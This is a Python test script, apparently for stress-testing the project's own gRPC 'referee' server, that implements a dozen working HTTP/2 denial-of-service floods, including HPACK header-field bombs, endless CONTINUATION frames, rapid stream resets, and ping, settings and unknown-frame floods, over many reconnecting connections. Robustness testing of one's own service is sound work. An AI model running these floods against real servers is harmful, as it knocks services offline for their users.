"""Flood a referee: connections send as fast as they can, and reconnect when they are closed.

python -m tests.attack.network.flood NAME ADDRESS SECONDS [TOKEN]

It prints one line of JSON with the sent megabytes and the number of connections.
"""

import asyncio
import contextlib
import json
import sys
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass

from tests.attack.network import grpc_call
from tests.server import http2
from tests.server.http2 import CONTINUATION, HEADERS, PING, PREFACE, RESET, frame

HELLO = PREFACE + http2.settings()
HEALTH = "/grpc.health.v1.Health/Check"
UNKNOWN_KIND = 200
STREAMS = range(1, 1 << 20, 2)
BLOCK = http2.block(grpc_call.METHOD)


@dataclass(frozen=True, slots=True)
class Attack:
    """An attack.

    Attributes:
        what: its description in the table.
        pieces: a function that yields the bytes of one connection, from the token of a bot.
        connections: number of parallel connections.
    """

    what: str
    pieces: Callable[[str], Iterator[bytes]]
    connections: int = 20


def _header_fields(_: str) -> Iterator[bytes]:
    for stream in STREAMS:
        yield frame(HEADERS, 5, stream, BLOCK + b"\x90" * 12_000)


def _allowed_fields(_: str) -> Iterator[bytes]:
    for stream in STREAMS:
        yield frame(HEADERS, 5, stream, BLOCK + b"\x90" * 50)


def _large_fields(_: str) -> Iterator[bytes]:
    """Yield a field of 3,900 bytes for the HPACK table, then calls that repeat it by one byte."""
    name = b"\x40\x01a\x7f\xbd\x1d" + b"x" * 3900
    yield frame(HEADERS, 5, 1, BLOCK + name)
    for stream in STREAMS[1:]:
        yield frame(HEADERS, 5, stream, BLOCK + b"\xbe" * 55)


def _continuations(_: str) -> Iterator[bytes]:
    yield frame(HEADERS, 0, 1, BLOCK)
    while True:
        yield frame(CONTINUATION, 0, 1) * 100


def _resets(_: str) -> Iterator[bytes]:
    for stream in STREAMS:
        yield frame(HEADERS, 4, stream, BLOCK) + frame(RESET, 0, stream, b"\0\0\0\x08")


def _calls(_: str) -> Iterator[bytes]:
    for stream in STREAMS:
        yield frame(HEADERS, 5, stream, BLOCK)


def _health(_: str) -> Iterator[bytes]:
    for stream in STREAMS:
        yield http2.call(stream, HEALTH) + http2.message(stream, b"")


def _pings(_: str) -> Iterator[bytes]:
    while True:
        yield frame(PING, 0, 0, bytes(8)) * 500


def _settings(_: str) -> Iterator[bytes]:
    while True:
        yield http2.settings(window=1) * 500


def _unknown_frames(_: str) -> Iterator[bytes]:
    while True:
        yield frame(UNKNOWN_KIND, 0, 0, bytes(16_000)) * 4


def _goodbyes(_: str) -> Iterator[bytes]:
    """Yield nothing: each connection is closed after its preface."""
    yield from ()


ATTACKS = {
    "header-fields": Attack("header blocks of 12,000 one-byte fields", _header_fields),
    "allowed-fields": Attack("header blocks with as many fields as are allowed", _allowed_fields),
    "large-fields": Attack("header fields of 3,900 bytes by one byte each", _large_fields),
    "continuations": Attack("CONTINUATION frames without an end", _continuations),
    "resets": Attack("calls that are reset at once", _resets),
    "calls": Attack("calls without a token", _calls),
    "health": Attack("health checks", _health),
    "pings": Attack("pings", _pings),
    "settings": Attack("settings", _settings),
    "unknown-frames": Attack("frames of an unknown kind, 16 kB each", _unknown_frames),
    "connections": Attack("connections that are closed at once", _goodbyes),
    "hellos": Attack(
        "frames of 64 KiB with a Hello that has 32,700 resume points", grpc_call.hellos, 8
    ),
}


class Flood:
    """A running attack, with the counts of its bytes and connections."""

    def __init__(self, attack: Attack, address: str, seconds: float, token: str) -> None:
        self.sent = 0
        self.connections = 0
        self._attack = attack
        self._address = address
        self._token = token
        self._end = time.monotonic() + seconds

    @property
    def _is_over(self) -> bool:
        return time.monotonic() >= self._end

    async def run(self) -> None:
        """Attack over all connections at once."""
        async with asyncio.TaskGroup() as group:
            for _ in range(self._attack.connections):
                group.create_task(self._again_and_again())

    async def _again_and_again(self) -> None:
        while not self._is_over:
            with contextlib.suppress(OSError):
                await self._once()
            await asyncio.sleep(0.001)

    async def _once(self) -> None:
        reader, writer = await self._connect()
        self.connections += 1
        reading = asyncio.create_task(_read(reader))
        try:
            writer.write(HELLO)
            for piece in self._attack.pieces(self._token):
                writer.write(piece)
                self.sent += len(piece)
                await asyncio.wait_for(writer.drain(), max(0.01, self._end - time.monotonic()))
                if self._is_over:
                    break
        except TimeoutError:
            return
        finally:
            writer.transport.abort()
            reading.cancel()

    async def _connect(self) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        if self._address.startswith("unix:"):
            return await asyncio.open_unix_connection(self._address.removeprefix("unix:"))
        host, _, port = self._address.rpartition(":")
        return await asyncio.open_connection(host, int(port))


async def _read(reader: asyncio.StreamReader) -> None:
    with contextlib.suppress(OSError):
        while await reader.read(1 << 16):
            pass


def main() -> None:
    """Run the attack of the command line, and print its counts."""
    name, address, seconds, token = (*sys.argv[1:], "")[:4]
    flood = Flood(ATTACKS[name], address, float(seconds), token)
    asyncio.run(flood.run())
    print(json.dumps({"megabytes": flood.sent / 1e6, "connections": flood.connections}))


if __name__ == "__main__":
    main()
